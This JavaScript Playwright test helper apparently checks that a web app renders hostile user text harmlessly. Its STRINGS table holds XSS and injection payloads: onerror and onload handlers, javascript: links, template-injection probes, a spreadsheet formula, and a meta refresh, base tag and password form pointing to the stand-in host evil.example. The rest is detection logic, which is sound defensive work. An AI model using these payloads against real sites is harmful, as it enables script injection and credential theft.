// Texts that would act if a page took them for HTML, and how a journey sees that none did. A new trick gets its line in
// `STRINGS`; a new field gets its line in `hostile_study.js`; a new page is found in the table of routes.
import { readFileSync, readdirSync } from "node:fs";
import { join } from "node:path";
import { expect } from "@playwright/test";

const ROOT = join(import.meta.dirname, "../../..");

/** Where no request may ever go. */
export const ELSEWHERE = "evil.example";

/** Each closes what it may be in, and marks what it makes: `x-evil` elements, `data-evil` attributes. */
export const STRINGS = {
  "a text area": `</textarea><meta http-equiv=refresh content="0;url=//evil.example"><x-evil>`,
  "a title": `</title><script data-evil>alert(1)</script><x-evil>`,
  "raw text": `</script></style></noscript></xmp><x-evil>`,
  "a double quote": `"><img src=//evil.example/a onerror=alert(1) data-evil>`,
  "a single quote": `'><img src=//evil.example/b onerror=alert(1) data-evil>`,
  "an attribute": `" autofocus onfocus=alert(1) data-evil="`,
  "another attribute": `' onmouseover=alert(1) data-evil='`,
  "a form": `<form action=//evil.example data-evil><input name=password><button>Go on</button></form>`,
  "an option": `</option></select><x-evil>`,
  "a table": `</td></tr></table><x-evil>`,
  "a picture": `<svg onload=alert(1) data-evil><a xlink:href="javascript:alert(1)">x</a></svg>`,
  "a frame": `<iframe srcdoc="<script>parent.alert(1)</script>" data-evil></iframe>`,
  "a style": `<style data-evil>*{display:none}</style><link rel=stylesheet href=//evil.example data-evil>`,
  "a base": `<base href=//evil.example data-evil>`,
  "a comment": `--><x-evil><!-- --!><x-evil>`,
  "a section": `]]><x-evil><![CDATA[`,
  "two parsers": `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(1) data-evil&gt;">`,
  entities: `&amp; &lt;b&gt; &#x3c;x-evil&#x3e; &quot; &nbsp; &notit; &copy AT&T &#0; %3Cx-evil%3E`,
  "an escape": `\\u003cx-evil\\u003e \\x3cx-evil\\x3e \\"`,
  "a template": `{{7*7}} \${7*7} <%= 7*7 %> {{constructor.constructor('alert(1)')()}}`,
  "Markdown links": `[a](javascript:alert(1)) [b](data:text/html;base64,PHg+) <javascript:alert(1)> ![c](https://evil.example/c.png)`,
  "Markdown with HTML": `<a href="javascript:alert(1)" data-evil>x</a> <div style="position:fixed" data-evil>y</div>`,
  "a formula": `=HYPERLINK("//evil.example","x")`,
  "right to left": `\u202Eabc\u202C \u2067def\u2069 \u200F`,
  "odd separators": `a\u2028b\u2029c\u0085d\uFEFF`,
};

/** Texts for fields of several lines besides these. */
export const BLANK_LINES = { "leading blank lines": "\n\nthe third line", "blank lines": "one\n\n\nfour" };

/** As many of the strings as fit into a field, another choice for each `n`, after a `tag` by which the text is found again. */
export function packed(tag, most, n) {
  const strings = Object.values(STRINGS);
  let text = tag;
  for (let place = 0; place < strings.length; place += 1) {
    const next = `${text} ${strings[(n * 7 + place) % strings.length]}`;
    if (next.length <= most) text = next;
  }
  return text;
}

/** The addresses of all pages, as the table of routes has them. */
export function routes() {
  const table = readFileSync(join(ROOT, "app/src/routes.rs"), "utf8");
  const found = [...table.matchAll(/path!\("([^"]+)"\)/g)].map(([, path]) => path);
  expect(found.length, "the table of routes was read").toBeGreaterThan(40);
  return found;
}

/** What pages read from their query. */
export function queries() {
  const names = new Set();
  for (const file of readdirSync(join(ROOT, "app/src"), { recursive: true })) {
    if (!file.endsWith(".rs")) continue;
    for (const [, name] of readFileSync(join(ROOT, "app/src", file), "utf8").matchAll(/\bquery\("(\w+)"\)/g)) names.add(name);
  }
  expect(names.size, "queries were read").toBeGreaterThan(10);
  return [...names];
}

/** Watches a window: requests to elsewhere, dialogs, refused content, errors of scripts. The list fills as it is used. */
export async function watch(context, url) {
  const found = [];
  context.on("request", (request) => {
    const address = new URL(request.url());
    if (["http:", "https:", "ws:", "wss:"].includes(address.protocol) && address.origin !== url) found.push(`request: ${request.url()}`);
  });
  context.on("dialog", (dialog) => {
    found.push(`dialog: ${dialog.message()}`);
    dialog.dismiss();
  });
  context.on("console", (message) => {
    if (/content security policy|refused to/i.test(message.text())) found.push(`policy: ${message.text()}`);
  });
  context.on("weberror", (error) => found.push(`error: ${error.error()}`));
  await context.route((address) => address.hostname.endsWith(ELSEWHERE), (route) => route.abort());
  return found;
}

/** Runs in the page: what in this document was made by a text, and all that a reader can see of it. */
function inspect(document) {
  const made = [];
  const tell = (element, why) => made.push(`${why}: ${element.outerHTML.slice(0, 200)}`);
  for (const element of document.querySelectorAll("*")) {
    const name = element.localName;
    if (name.includes("evil")) tell(element, "element");
    if (["iframe", "frame", "object", "embed", "base", "img", "marquee", "math", "xmp", "noscript", "style"].includes(name)) tell(element, "element");
    if (name === "meta" && element.httpEquiv) tell(element, "refresh");
    if (name === "script" && !element.nonce && !element.getAttribute("src")?.startsWith("/pkg/")) tell(element, "script");
    if (name === "link" && new URL(element.getAttribute("href") ?? "", location.href).protocol !== "data:" && !element.getAttribute("href").startsWith("/pkg/")) tell(element, "link");
    for (const attribute of element.attributes) {
      if (attribute.name.includes("evil") || attribute.name.startsWith("on") || attribute.name === "srcdoc") tell(element, attribute.name);
      if (["action", "formaction", "src", "poster", "background"].includes(attribute.name)) {
        if (new URL(attribute.value, location.href).origin !== location.origin) tell(element, attribute.name);
      }
      const link = ["href", "xlink:href"].includes(attribute.name) && attribute.value.trim();
      // A link out of Markdown may lead elsewhere when it is clicked, and may do nothing else.
      if (link && /^(javascript|vbscript|data:text)/i.test(link)) tell(element, "link");
      const leadsAway = link && URL.canParse(link, location.href) && new URL(link, location.href).hostname.includes("evil.example");
      if (leadsAway && !element.closest(".markdown")) tell(element, "link");
    }
  }
  // A table in a field doubles the quotes of its texts.
  const fields = [...document.querySelectorAll("input, textarea")].flatMap(({ value }) => [value, value.replaceAll('""', '"')]);
  const names = [...document.querySelectorAll("[aria-label], [title]")].flatMap((one) => [one.ariaLabel, one.title]);
  return { made, seen: [document.title, document.body?.textContent, ...fields, ...names].filter(Boolean).join("\n") };
}

/** Runs a function in the page, with what it is given and `inspect`. As an expression, which the page's policy lets pass. */
export function runWithInspect(page, act, given) {
  return page.evaluate(`(${act})(${JSON.stringify(given)}, ${inspect})`);
}

/** Expects that no text has acted on the page that is shown; what is to be read on it. */
export async function expectHarmless(page, address) {
  const { made, seen } = await page.evaluate(`(${inspect})(document)`);
  expect(made, address).toEqual([]);
  return seen;
}
